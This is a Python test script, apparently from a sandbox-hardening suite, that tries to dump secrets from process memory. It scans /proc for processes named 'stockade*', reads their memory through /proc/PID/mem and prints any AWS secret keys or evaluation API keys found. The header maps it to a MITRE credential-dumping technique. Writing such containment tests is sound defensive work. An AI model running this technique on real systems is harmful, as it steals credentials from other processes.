# family: injection
# tries: search the memory of the sandbox's own processes (/proc/PID/maps and /proc/PID/mem, argv[0] named stockade*) for the caller's secrets (AWS_SECRET_ACCESS_KEY=, STOCKADE_EVAL_API_KEY=) and print what follows
# source: https://attack.mitre.org/techniques/T1003/007/
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
#
# Bound: at most 64 MiB read per process.
import os
import re
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
pattern = re.compile(rb"(AWS_SECRET_ACCESS_KEY|STOCKADE_EVAL_API_KEY)=([^\0\n]{1,200})")
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            if not os.path.basename(f.read().split(b"\0")[0]).startswith(b"stockade"):
                continue
        with open(f"/proc/{pid}/maps") as f:
            regions = [l.split() for l in f]
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as e:
        print(f"{pid}: {e.strerror}")
        continue
    budget, found = 64 << 20, set()
    for r in regions:
        lo, hi = (int(x, 16) for x in r[0].split("-"))
        if "r" not in r[1] or hi - lo > budget or (len(r) > 5 and r[5] == "[vvar]"):
            continue
        budget -= hi - lo
        try:
            mem.seek(lo)
            found.update(m.group(0) for m in pattern.finditer(mem.read(hi - lo)))
        except OSError:
            pass
    mem.close()
    for hit in sorted(found):
        print(f"{pid}: {hit.decode(errors='replace')}")
    print(f"{pid}: {len(found)} secrets found in memory")
